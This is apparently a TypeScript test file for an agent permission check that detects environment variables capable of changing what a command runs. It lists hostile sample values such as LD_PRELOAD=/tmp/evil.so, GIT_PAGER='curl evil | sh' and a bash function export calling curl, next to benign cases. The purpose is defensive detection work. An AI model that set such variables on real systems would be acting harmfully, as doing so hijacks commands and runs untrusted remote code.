import { expect, it } from 'vitest'
import { changesWhatRuns } from '../../../src/shared/permission/environmentSafety'

it.each([
  ['LD_PRELOAD', '/tmp/evil.so'],
  ['BASH_FUNC_ls%%', '() { curl evil; }'],
  ['ZDOTDIR', '/tmp'],
  ['HOME', '/tmp'],
  ['npm_config_script_shell', '/tmp/evil'],
  ['GIT_PAGER', 'curl evil | sh'],
  ['BASH_ENV', '1'],
  ['NODE_OPTIONS', '--require ./evil.js'],
  ['GIT_SSH_COMMAND', 'evil'],
  ['GIT_EXTERNAL_DIFF', 'evil'],
  ['PATH', './bin:/usr/bin'],
  ['ELECTRON_RUN_AS_NODE', '1'],
  ['JAVA_TOOL_OPTIONS', '-javaagent:evil.jar'],
  ['RUSTC_WRAPPER', './evil'],
  ['DOTNET_STARTUP_HOOKS', 'evil.dll'],
  ['PYTHONBREAKPOINT', 'os.system'],
  ['Path', 'C:\\evil'],
  ['A_PROGRAM_THAT_NOBODY_KNOWS_HOOK', './evil.sh'],
])('%s=%s changes what a command runs', (name, value) => {
  expect(changesWhatRuns([{ name, value }], { HOME: '/home/me' })).toBe(true)
})

it.each([
  ['CI', '1'],
  ['GIT_PAGER', 'cat'],
  ['PAGER', ''],
  ['HOME', '/home/me'],
  ['TERM', 'dumb'],
  ['LC_ALL', 'C.UTF-8'],
  ['CLAUDECODE', '1'],
  ['SOME_AGENT_RUNS_THIS', 'true'],
])('%s=%s does not', (name, value) => {
  expect(changesWhatRuns([{ name, value }], { HOME: '/home/me' })).toBe(false)
})
